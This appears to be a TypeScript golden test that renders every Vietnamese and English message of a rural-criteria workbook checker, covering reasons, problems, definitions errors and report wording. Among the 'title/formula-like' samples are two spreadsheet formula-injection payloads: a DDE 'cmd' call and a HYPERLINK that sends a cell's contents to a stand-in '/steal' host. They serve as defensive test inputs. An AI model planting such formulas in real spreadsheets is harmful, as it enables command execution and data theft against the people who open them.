/**
 * Every sentence the engine can say, in both languages, rendered from typed samples and compared
 * with tests/golden/messages/{vi,en}.txt: a changed word shows in the diff, for review by someone
 * who reads the language. The samples cover each branch of a message (with and without a sheet,
 * a cell, a source, a note). Regenerate on purpose with UPDATE_GOLDEN=1.
 */
import * as path from "path";
import { en } from "../../../src/domain/messages/en";
import { vi } from "../../../src/domain/messages/vi";
import { LANGS, type Lang } from "../../../src/domain/messages/Lang";
import { definitionsErrorText, problemText, shortfallText } from "../../../src/domain/messages";
import type { Messages, ReasonWords, SetReasonWords } from "../../../src/domain/messages/Messages";
import type { ReasonCode } from "../../../src/domain/evaluation/Reason";
import type { Shortfall } from "../../../src/domain/evaluation/shortfall";
import type { UnknownThreshold } from "../../../src/domain/evaluation/AppliedThreshold";
import type { DefinitionsErrorKind, Location, ProblemCode, ProblemParams } from "../../../src/domain/problems/Problem";
import { DISTRICT_SHEET_NAME, DISTRICT_SHEET_NAME_EN, DISTRICT_WORDS } from "../../../src/domain/messages/districtWords";
import { SUMMARY_WORDS } from "../../../src/domain/messages/summaryWords";
import { NOTE_WORDS } from "../../../src/domain/messages/noteWords";
import { PARAGRAPH_WORDS } from "../../../src/domain/messages/paragraphWords";
import { DEFINITIONS_WORDS } from "../../../src/domain/messages/definitionsSheetWords";
import { expectGolden } from "../../fixtures/golden";

const GOLDEN = path.join(__dirname, "..", "..", "golden", "messages");
const BY_LANG: Record<Lang, Messages> = { vi, en };

const cell = { sheet: "TC 1-9", row: 12, col: 3 };
const inSheet: Location = { sheet: "Biểu 01" };
const inCell: Location = { sheet: "TC 1-9", cell };
const inFile: Location = { file: "xa-lien-son.xlsx" };
const percent95 = { kind: "atLeast" as const, value: 95, unit: "%" };
const income = { kind: "atLeast" as const, value: 39, unit: "triệu đồng/người/năm" };

/** Each reason with the words that change it: a source, a region or a group, an error, why unknown. */
const REASONS: { [C in ReasonCode]: ReasonWords[] } = {
  meets: [
    { figure: "98,5%", threshold: "≥ 95%", cell: "'TC 1-9'!D13" },
    { figure: "98,5%", threshold: "≥ 95%", cell: "'TC 1-9'!D13", source: "QĐ 318/QĐ-TTg", region: "Trung du và miền núi phía Bắc", regionIsGroup: false },
    { figure: "42", threshold: "≥ 39 triệu đồng/người/năm", cell: "D8", region: "Nhóm 2", regionIsGroup: true },
  ],
  fails: [
    { figure: "90%", threshold: "≥ 95%", cell: "D13" },
    { figure: "90%", threshold: "≥ 95%", cell: "D13", source: "QĐ 51/2025/QĐ-TTg", region: "Nhóm 1", regionIsGroup: true },
    { figure: "90%", threshold: "≥ 95%", cell: "D13", region: "Đồng bằng sông Hồng", regionIsGroup: false },
  ],
  "no-figure": [{ figure: "", threshold: "≥ 95%", cell: "'TC 1-9'!D13" }],
  "not-found": [{ figure: "", threshold: "", cell: "" }],
  unreadable: [
    { figure: "khoảng chín mươi", threshold: "≥ 95%", cell: "D13" },
    { figure: "#DIV/0!", threshold: "≥ 95%", cell: "D13", error: "#DIV/0! (chia cho 0)" },
  ],
  "legacy-encoding": [{ figure: "§¹t", threshold: "Đạt", cell: "E20" }],
  "out-of-range": [{ figure: "120%", threshold: "≥ 95%", cell: "D13" }],
  "unknown-threshold": [
    { figure: "80%", threshold: "", cell: "D13" },
    { figure: "80%", threshold: "", cell: "D13", region: "Tây Nguyên" },
    { figure: "80%", threshold: "", cell: "D13", unknownWhy: "group-unknown" },
    { figure: "80%", threshold: "", cell: "D13", unknownWhy: "not-in-sheet" },
  ],
  "kind-mismatch": [{ figure: "Có", threshold: "≥ 95%", cell: "D13" }],
  "unit-mismatch": [{ figure: "12 km", threshold: "≥ 95%", cell: "D13" }],
  "marked-not-assessed": [{ figure: "Chưa đánh giá", threshold: "", cell: "D13" }],
  stated: [
    { figure: "Đạt", threshold: "", cell: "D13" },
    { figure: "Đạt", threshold: "≥ 95%", cell: "D13" },
  ],
  "nothing-to-count": [{ figure: "Không có", threshold: "", cell: "D13" }],
};

const defError = (e: DefinitionsErrorKind, p: (string | number)[] = ["thresholds", "4.2", "atLeast"]) => ({ ...e, path: p });

/** Each problem with parameters a real workbook gives, and the places that change its words. */
const PROBLEMS: { [C in ProblemCode]: { params: ProblemParams[C]; at: Location }[] } = {
  "table/not-found": [{ params: {}, at: {} }],
  "table/period-not-found": [
    { params: { period: "6 tháng", periods: ["Năm 2023", "Năm 2024"] }, at: {} },
    { params: { period: "6 tháng", periods: [] }, at: {} },
  ],
  "indicator/duplicate": [{ params: { indicator: "4.2", firstSheet: "TC 1-9", firstRow: 14 }, at: inCell }],
  "indicator/unknown-code": [
    { params: { indicator: "4.9" }, at: inCell },
    { params: { indicator: "4.9" }, at: {} },
  ],
  "indicator/sheet-defined": [{ params: { indicator: "20.1" }, at: inCell }],
  "figure/unreadable": [{ params: { indicator: "4.2", raw: "khoảng 90" }, at: inCell }],
  "figure/error-value": [
    { params: { indicator: "4.2", raw: "#DIV/0!", error: "#DIV/0!" }, at: inCell },
    { params: { indicator: "4.2", raw: "#GETTING_DATA", error: "#GETTING_DATA" }, at: inCell },
  ],
  "figure/legacy-encoding": [{ params: { indicator: "4.2", raw: "§¹t" }, at: inCell }],
  "figure/out-of-range": [
    { params: { indicator: "4.2", raw: "120%", value: 120, kind: "percent", min: 0, max: 100 }, at: inCell },
    { params: { indicator: "8.1", raw: "-3", value: -3, kind: "count", min: 0, max: null }, at: inCell },
  ],
  "threshold/disagrees": [{ params: { indicator: "10", sheetThreshold: "≥ 36 triệu", applied: income }, at: inCell }],
  "threshold/looser-than-national": [
    {
      params: { indicator: "4.2", province: { kind: "atLeast", value: 90, unit: "%" }, provinceDocument: "QĐ 12/2022 của UBND tỉnh", national: percent95, nationalDocument: "QĐ 318/QĐ-TTg" },
      at: {},
    },
  ],
  "self-assessment/mismatch": [
    { params: { level: "indicator", code: "4.2", self: "Đạt", computed: "not_achieved" }, at: inCell },
    { params: { level: "criterion", code: "15", self: "Chưa đạt", computed: "achieved" }, at: {} },
  ],
  "set/unknown": [{ params: { setId: "nq-2030" }, at: {} }],
  "province/unknown": [{ params: { province: "Lạng Sơnn" }, at: {} }],
  "region/unknown": [{ params: { region: "mien-tay" }, at: {} }],
  "group/unknown": [{ params: { group: "4" }, at: {} }],
  "region/ambiguous": [{ params: { province: "Thanh Hóa", spans: ["Bắc Trung Bộ", "Trung du và miền núi phía Bắc"] }, at: {} }],
  "definitions/invalid": [
    { params: { errors: [defError({ code: "percent-range", value: 120 }), defError({ code: "unknown-key", key: "atleast", allowed: ["atLeast", "atMost"] }, ["thresholds", "4.2"])] }, at: inFile },
  ],
  "definitions/sheet-entry": [{ params: { indicator: "4.2", text: "khoảng 90" }, at: inCell }],
  "definitions/other-set": [{ params: { overlay: "lang-son.json", extends: "qd-318-2021-2025", setId: "qd-51-2026-2030" }, at: {} }],
  "host/protected-sheet": [
    { params: {}, at: inSheet },
    { params: { detail: "AccessDenied" }, at: {} },
  ],
  "host/cell-edit-mode": [{ params: { detail: "InvalidOperationInCellEditMode" }, at: {} }],
  "host/too-large": [
    { params: {}, at: inSheet },
    { params: {}, at: {} },
  ],
  "host/not-found": [
    { params: {}, at: inCell },
    { params: {}, at: inSheet },
    { params: {}, at: {} },
  ],
  "host/unsupported": [{ params: {}, at: {} }],
  "host/settings-not-saved": [{ params: {}, at: {} }],
  "host/other": [
    { params: {}, at: inCell },
    { params: {}, at: inSheet },
    { params: {}, at: {} },
  ],
  "file/encrypted": [{ params: {}, at: inFile }],
  "file/corrupt": [{ params: {}, at: inFile }],
  "file/not-a-workbook": [{ params: {}, at: inFile }],
  "file/no-table": [{ params: {}, at: inFile }],
  "file/unreadable": [
    { params: { detail: "ENOENT" }, at: inFile },
    { params: { detail: "EACCES" }, at: inFile },
    { params: { detail: null }, at: inFile },
  ],
  "file/duplicate": [{ params: { commune: "Liên Sơn", keptFile: "lien-son-2024.xlsx" }, at: inFile }],
  "file/check-failed": [
    { params: { detail: "TypeError" }, at: inFile },
    { params: { detail: null }, at: inFile },
  ],
  "file/xls-converted": [{ params: { out: "out/xa-lien-son.xlsx" }, at: inFile }],
  "file/too-large": [{ params: { kind: "file", actual: 64_000_000, limit: 50_000_000 }, at: inFile }],
  "title/formula-like": [
    { params: { text: "=cmd|' /c Calc'!a" }, at: inCell },
    { params: { text: "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Xã Liên Sơn\")" }, at: inCell },
  ],
};

/** Each definitions-file error, with and without the value found. */
const DEF_ERRORS: DefinitionsErrorKind[] = [
  { code: "json-syntax", detail: "Unexpected token } in JSON at position 41" },
  { code: "expected-type", expected: "number", got: '"95"' },
  { code: "expected-type", expected: "array", got: null },
  { code: "expected-type", expected: "date", got: '"x"' },
  { code: "bad-id", got: '"Lang Son"' },
  { code: "bad-format", got: '"2024/13/40"' },
  { code: "bad-code", key: "4-2" },
  { code: "one-of", values: ["qd-318-2021-2025", "qd-51-2026-2030"], got: '"qd-318"' },
  { code: "one-of", values: [1, 2, 3], got: null },
  { code: "empty" },
  { code: "too-small" },
  { code: "one-rule" },
  { code: "unknown-key", key: "atleast", allowed: ["atLeast", "atMost", "yes", "none", "byRegion"] },
  { code: "unknown-set", setId: "qd-999", known: ["qd-318-2021-2025", "qd-51-2026-2030"] },
  { code: "unknown-indicator", setId: "qd-318-2021-2025", indicator: "4.9" },
  { code: "unknown-region", setId: "qd-318-2021-2025", region: "mien-tay", known: ["tdmnpb", "dbsh"] },
  { code: "yes-no-indicator", indicator: "17.1" },
  { code: "percent-range", value: 120 },
  { code: "percent-unit", indicator: "4.2", unit: "hộ" },
  { code: "unknown-province", province: "lang-sonn" },
  { code: "other", detail: "Invalid date" },
];

const UNKNOWN: UnknownThreshold[] = [
  { why: "not-in-set", setId: "qd-318-2021-2025", indicator: "4.9" },
  { why: "region-unknown", note: "Ngưỡng theo vùng: Quyết định 318/QĐ-TTg, Phụ lục I." },
  { why: "region-unknown", note: null },
  { why: "group-unknown", note: "Mức chuẩn theo nhóm xã." },
  { why: "group-unknown", note: null },
  { why: "not-in-sheet", indicator: "20.1" },
  { why: "no-data", note: "Chờ văn bản hướng dẫn của Bộ." },
  { why: "no-data", note: null },
];

const LONG_TITLE = "BÁO CÁO KẾT QUẢ THỰC HIỆN BỘ TIÊU CHÍ XÃ NÔNG THÔN MỚI GIAI ĐOẠN 2021 - 2025 CỦA XÃ LIÊN SƠN, HUYỆN CHI LĂNG, TỈNH LẠNG SƠN NĂM 2024";

const SET_REASONS: SetReasonWords[] = [
  { by: "explicit", set: "Bộ tiêu chí 2021 - 2025" },
  { by: "default", set: "Bộ tiêu chí 2026 - 2030" },
  { by: "definitions", set: "Bộ tiêu chí 2021 - 2025", file: "lang-son.json" },
  { by: "title", set: "Bộ tiêu chí 2021 - 2025", text: "Giai đoạn 2021 - 2025", cell: "A2" },
  { by: "title", set: "Bộ tiêu chí 2021 - 2025", text: LONG_TITLE, cell: null },
  { by: "year", set: "Bộ tiêu chí 2026 - 2030", year: 2026, text: "Năm 2026", cell: "'Biểu 01'!A3" },
  { by: "year", set: "Bộ tiêu chí 2026 - 2030", year: 2026, text: "Năm 2026", cell: null },
  { by: "criteria", set: "Bộ tiêu chí 2021 - 2025", matched: 17, of: 19 },
  { by: "sheet", set: "Bộ tiêu chí theo bảng tính", criteria: 12, text: LONG_TITLE },
  { by: "sheet", set: "Bộ tiêu chí theo bảng tính", criteria: 12, text: null },
];

const SHORTFALLS: Shortfall[] = [
  { direction: "increase", value: 1.0912, unit: "điểm phần trăm", count: 2, countUnit: "hộ" },
  { direction: "increase", value: 11, unit: "triệu đồng/người/năm" },
  { direction: "increase", value: 1250.4, unit: "triệu đồng" },
  { direction: "decrease", value: 0.35, unit: "điểm phần trăm", count: 3, countUnit: "hộ" },
  { direction: "decrease", value: 0.5, unit: "điểm phần trăm", count: 1 },
  { direction: "decrease", value: 2, unit: "km" },
];

/**
 * The arguments each word function of the sheets' tables is called with, by its path; a function
 * without samples fails the test, so a new one cannot go unseen.
 */
const TABLE_SAMPLES: Record<string, unknown[][]> = {
  "district/sheet.title": [["tỉnh Lạng Sơn"], [null]],
  "district/sheet.subtitle": [["Bộ tiêu chí 2021 - 2025", "Lạng Sơn"], ["Bộ tiêu chí 2021 - 2025", null], ["", "Lạng Sơn"], ["", null]],
  "district/sheet.criterion": [[4]],
  "district/sheet.figures": [["xã Bắc Sơn"], [null]],
  "district/sheet.nearly": [[2]],
  "district/sheet.bandShort": [[19, 19, 19], [0, 4, 19], [15, 18, 19]],
  "district/bandBelow": [[4]],
  "district/bandLabel": [["15-18"]],
  "district/communeCount": [[1], [4], [9], [10], [17]],
  "district/consolidated": [[17]],
  "district/average": [["14,29"]],
  "district/criterionHead": [[4]],
  "district/allAchieved": [[19]],
  "district/achieved": [[11, 19, "Tiêu chí số 1 - Quy hoạch, Tiêu chí số 4 - Điện"]],
  "district/noneAchieved": [[19]],
  "district/notAchieved": [[8, 19, "Tiêu chí số 10 - Thu nhập"]],
  "district/nearlyLabel": [[2]],
  "district/nearlyItem": [["Xã Tân Lập", "Tiêu chí số 10 - Thu nhập"]],
  "district/communeHead": [["Tân Lập"]],
  "district/notAchievedByLine": [["Tiêu chí số 10 - Thu nhập", "04 xã", "Tân Lập, Hữu Lũng"]],
  "district/unitLead": [["tỉnh Lạng Sơn"]],
  "district/bandsError.empty": [[{ kind: "empty" }]],
  "district/bandsError.syntax": [[{ kind: "syntax", part: "năm" }]],
  "district/bandsError.reversed": [[{ kind: "reversed", part: "9-5" }]],
  "district/bandsError.beyond": [[{ kind: "beyond", part: "15-25", total: 19 }]],
  "district/bandsError.overlap": [[{ kind: "overlap", first: "10-15", second: "15-18" }]],
  "district/bandsError.gap": [[{ kind: "gap", from: 5, to: 9 }], [{ kind: "gap", from: 19, to: 19 }]],
  "district/bandsRule": [[19, "19,15-18,10-14,5-9,0-4"], [null, ""]],
  "district/bandsInvalid": [["nhóm “10-15” và “15-18” chồng nhau", "Viết các nhóm cách nhau bằng dấu phẩy."]],
  "district/moreFiles": [["a.xlsx, b.xlsx", 3]],
  "district/mixedGroup": [[1, "Bộ tiêu chí 2021 - 2025", "a.xlsx"], [3, "Bộ tiêu chí 2026 - 2030", "b.xlsx, c.xlsx, d.xlsx"]],
  "district/mixedSets": [["2 tệp theo A và 1 tệp theo B", "cli"], ["2 tệp theo A và 1 tệp theo B", "pane"]],
  "summary/orgParent": [["Chi Lăng"]],
  "summary/org": [["Liên Sơn"], [null]],
  // Every month (days and months below 10 take a leading zero in Vietnamese, months from March on do not).
  "summary/placeDate": [...Array.from({ length: 12 }, (_, m) => ["Liên Sơn", new Date(2024, m, m === 0 ? 9 : m === 1 ? 10 : 5 + m)]), [null, undefined]],
  "summary/place": [["Liên Sơn", "Chi Lăng", "Lạng Sơn"], [null, null, "Hà Nội"], [null, null, "tỉnh Lạng Sơn"], ["Liên Sơn", null, null], [null, null, null]],
  "summary/subtitle": [
    ["Năm 2024", "Bộ tiêu chí 2021 - 2025", "Trung du và miền núi phía Bắc"],
    [undefined, "Bộ tiêu chí 2026 - 2030", "Nhóm 2"],
    [undefined, "Bộ tiêu chí 2026 - 2030", "Group 2"],
    ["Năm 2024", "Bộ tiêu chí 2021 - 2025", "vùng Tây Nguyên"],
    [undefined, "Bộ tiêu chí 2021 - 2025", null],
  ],
  "summary/planCriterion": [["Tiêu chí số 10 - Thu nhập", "Chưa đạt", 1, 2]],
  "summary/planItem": [["10.1", "28 triệu", "≥ 39 triệu đồng/người/năm", "còn thiếu 11 triệu đồng/người/năm"], ["4.2", null, null, "chưa có số liệu"]],
  "summary/planMissing": [[[{ what: "chưa có mức chuẩn", codes: ["8.3", "9.1"] }, { what: "chưa có số liệu", codes: ["17.8"] }]]],
  "summary/totalAchieved": [[11, 19]],
  "note/criterionLabel": [[4, "Điện"]],
  "note/criterionPhrase": [[4, "Điện"]],
  "note/quoted": [["Đạt"]],
  "note/selfSays": [["“Đạt”"]],
  "note/formulaError": [["#DIV/0!"]],
  "paragraph/commune": [["Liên Sơn"], [null]],
  "paragraph/stated": [[0], [2]],
  "paragraph/checked": [["xã Liên Sơn", "11/19", ""]],
  "paragraph/selfAndChecked": [["xã Liên Sơn", "12/19", "11/19", " (trong đó 2 chỉ tiêu …)"]],
  "definitionsSheet/subtitle": [["Bộ tiêu chí 2026 - 2030", "xã nhóm 2"], ["Bộ tiêu chí 2021 - 2025", null]],
  "definitionsSheet/where": [["Nhóm 2", true], ["Trung du và miền núi phía Bắc", false]],
};

const TABLES: [string, Record<Lang, object>][] = [
  ["district", DISTRICT_WORDS],
  ["summary", SUMMARY_WORDS],
  ["note", NOTE_WORDS],
  ["paragraph", PARAGRAPH_WORDS],
  ["definitionsSheet", DEFINITIONS_WORDS],
];

/** Every entry of a word table: strings as they are, lists joined, functions called with their samples. */
function tableLines(table: string, words: object, line: (key: string, text: string) => void, at = ""): void {
  for (const [k, v] of Object.entries(words)) {
    const key = at ? `${at}.${k}` : k;
    if (typeof v === "function") {
      const samples = TABLE_SAMPLES[`${table}/${key}`];
      if (!samples) throw new Error(`no sample arguments for ${table}/${key}`);
      samples.forEach((args, i) => {
        const text = (v as (...a: unknown[]) => unknown)(...args);
        line(`${table}/${key}#${i + 1}`, text === null ? "(none)" : text === "" ? "(empty)" : String(text));
      });
    } else if (Array.isArray(v)) line(`${table}/${key}`, v.map((x) => (Array.isArray(x) ? x.join(": ") : String(x))).join(" | "));
    else if (v !== null && typeof v === "object") tableLines(table, v, line, key);
    else line(`${table}/${key}`, v === null ? "(none)" : String(v));
  }
}

/** The whole catalogue of one language, one sentence per line, each under its code. */
function catalogue(lang: Lang): string {
  const m = BY_LANG[lang];
  const out: string[] = [];
  const line = (key: string, text: string) => out.push(`${key}\t${text}`);
  for (const [v, word] of Object.entries(m.verdict)) line(`verdict/${v}`, word);
  for (const [code, samples] of Object.entries(REASONS) as [ReasonCode, ReasonWords[]][]) {
    samples.forEach((s, i) => line(`reason/${code}#${i + 1}`, m.reason[code](s)));
  }
  for (const [code, samples] of Object.entries(PROBLEMS) as [ProblemCode, { params: never; at: Location }[]][]) {
    samples.forEach((s, i) => line(`${code}#${i + 1}`, problemText({ code, params: s.params, at: s.at } as never, lang)));
  }
  const nth = new Map<string, number>();
  const numbered = (key: string) => `${key}#${nth.set(key, (nth.get(key) ?? 0) + 1).get(key)}`;
  for (const e of DEF_ERRORS) line(numbered(`definitionsError/${e.code}`), definitionsErrorText(defError(e), lang));
  line("definitionsError/root", definitionsErrorText({ code: "empty", path: [] }, lang));
  for (const u of UNKNOWN) line(numbered(`unknownThreshold/${u.why}`), (m.unknownThreshold[u.why] as (x: UnknownThreshold) => string)(u));
  for (const [k, word] of Object.entries(m.rule)) line(`rule/${k}`, word);
  // Units not listed are shown as written (Vietnamese lists none).
  for (const k of new Set([...Object.keys(vi.units), ...Object.keys(en.units)])) line(`unit/${k}`, m.units[k] ?? k);
  line("number", `group “${m.number.group}” decimal “${m.number.decimal}”`);
  line("jsonRoot", m.jsonRoot);
  line("criteriaCount", m.criteriaCount(11, 19));
  for (const r of SET_REASONS) line(numbered(`setReason/${r.by}`), m.setReason(r));
  line("setConflict", m.setConflict({ ...SET_REASONS[3], other: "Bộ tiêu chí 2026 - 2030" }));
  line("sheetSetName", `${m.sheetSetName.name} | ${m.sheetSetName.nameEn}`);
  for (const s of SHORTFALLS) line(numbered(`shortfall/${s.direction}`), shortfallText(s, lang));
  for (const [table, words] of TABLES) tableLines(table, words[lang], line);
  line("district/sheetName", lang === "vi" ? DISTRICT_SHEET_NAME : DISTRICT_SHEET_NAME_EN);
  return out.join("\n") + "\n";
}

describe("the words of every code", () => {
  it.each(LANGS)("%s: every sentence as the golden catalogue has it", (lang) => {
    expectGolden(`${lang}.txt`, catalogue(lang), GOLDEN);
  });

  it.each(LANGS)("%s: no sentence is empty or shows a missing value", (lang) => {
    for (const row of catalogue(lang).trimEnd().split("\n")) {
      const [key, text] = row.split("\t");
      expect([key, text.trim().length > 0]).toEqual([key, true]);
      expect([key, text]).not.toEqual([key, expect.stringMatching(/undefined|NaN|\[object|\bnull\b|\$\{/)]);
    }
  });

  it("the two languages say it differently (no sentence left untranslated)", () => {
    const viRows = catalogue("vi").split("\n");
    const enRows = catalogue("en").split("\n");
    expect(enRows.map((r) => r.split("\t")[0])).toEqual(viRows.map((r) => r.split("\t")[0]));
    // The same in both: zod's own detail echoed, the data's (Vietnamese) note, "km", the set's two
    // names, numbers and empty parts, and the source marker the definitions sheet stores as data.
    const same = viRows.filter((r, i) => r === enRows[i] && r !== "").map((r) => r.split("\t")[0]);
    expect(same).toEqual([
      "definitionsError/other#1",
      "unknownThreshold/no-data#1",
      "unit/km",
      "sheetSetName",
      "district/sheet.subtitle#4",
      "district/sheet.bandShort#1",
      "district/sheet.bandShort#2",
      "district/sheet.bandShort#3",
      "summary/place#5",
      "summary/planItem#2",
      "note/reason.meets",
      "paragraph/stated#1",
      "definitionsSheet/sourcePrefix",
    ]);
  });
});
